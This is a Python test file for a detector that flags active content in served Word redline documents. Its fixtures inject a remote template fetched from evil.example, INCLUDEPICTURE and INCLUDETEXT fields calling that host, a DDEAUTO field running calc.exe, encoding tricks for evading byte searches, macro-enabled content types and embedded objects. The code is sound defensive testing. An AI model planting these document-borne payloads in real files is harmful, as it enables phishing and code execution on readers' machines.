"""docxactions: what a served Word document would fetch, run or import once opened, on the generator's redline with
one thing slipped in."""
from __future__ import annotations

import io
import zipfile

import pytest

from policysite import docxactions, redline
from policysite.redline.docx import render_docx
from unit.test_redline import everything

_EXTERNAL = ('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="{mode}"/>')


def _redline() -> bytes:
    old, new = everything()
    return render_docx(redline.diff(old, new), author="Zephyr Widgets SAS", lang="en")


def _with(data: bytes, changes: dict[str, bytes]) -> bytes:
    """The document `data` with parts replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            target.writestr(name, changes.pop(name, None) or source.read(name))
        for name, part in changes.items():
            target.writestr(name, part)
    return out.getvalue()


def _rels(extra: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{extra}</Relationships>').encode()


def _field(document: bytes, element: str) -> bytes:
    return document.replace(b"<w:body>", b"<w:body><w:p><w:r>" + element.encode() + b"</w:r></w:p>", 1)


@pytest.mark.parametrize(("change", "said"), [
    (lambda doc: {"word/_rels/settings.xml.rels": _rels(_EXTERNAL.format(mode="External"))},
     "word/_rels/settings.xml.rels: https://evil.example/t.dotm"),
    (lambda doc: {"word/_rels/settings.xml.rels": _rels(_EXTERNAL.format(mode="&#69;xternal"))},
     "word/_rels/settings.xml.rels: https://evil.example/t.dotm"),
    (lambda doc: {"word/document.xml": _field(doc, '<w:instrText> INCLUDEPICTURE "https://evil.example/p.png" '
                                                   "</w:instrText>")}, "word/document.xml: <instrText>"),
    (lambda doc: {"word/document.xml": _field(doc, '<x:fldSimple x:instr="DDEAUTO c:\\\\windows\\\\calc.exe"/>')
                  .replace(b"<w:body>", b'<w:body xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/'
                                        b'main">', 1)},
     "word/document.xml: <fldSimple>"),
    # (session 35, safety6) a part in UTF-16, as Office's packages allow, hid its field from a search of its bytes; a
    # part not named .xml (the main document's name is its relationship's, any) was not read
    (lambda doc: {"word/document.xml": b"\xff\xfe" + _field(doc, '<w:instrText> INCLUDEPICTURE "https://evil.example/'
                                                                   'p.png" </w:instrText>').decode().encode("utf-16-le")},
     "word/document.xml: <instrText>"),
    (lambda doc: {"word/main.part": _field(doc, '<w:fldSimple w:instr="INCLUDETEXT https://evil.example/t"/>')},
     "word/main.part: <fldSimple>"),
    (lambda doc: {"[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.'
                                         'macroEnabled.main+xml"/></Types>'.encode("utf-16")}, "macroEnabled"),
    (lambda doc: {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "word/vbaProject.bin"),
    (lambda doc: {"word/embeddings/oleObject1.bin": b"x"}, "word/embeddings/oleObject1.bin"),
    (lambda doc: {"[Content_Types].xml": b'<Types><Override ContentType="application/vnd.ms-word.document.'
                                         b'macroEnabled.main+xml"/></Types>'}, "macroEnabled"),
])
def test_what_word_would_fetch_run_or_import_is_named(change, said):
    """A hand commit named as a rebuild could replace a version's redline (its digest in the manifest) by one whose
    settings fetch a remote template on opening (phishing documents' way; an attribute written with a character
    reference is the same to Word), a field including a picture from an address or running a program (in any prefix of
    Word's namespace), a macro or an embedded object: nothing read served Word documents. Named now; the generator's
    own redline holds none."""
    data = _redline()
    assert docxactions.docx_action(data) == ""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        document = archive.read("word/document.xml")
    assert docxactions.docx_action(_with(data, change(document))) == said
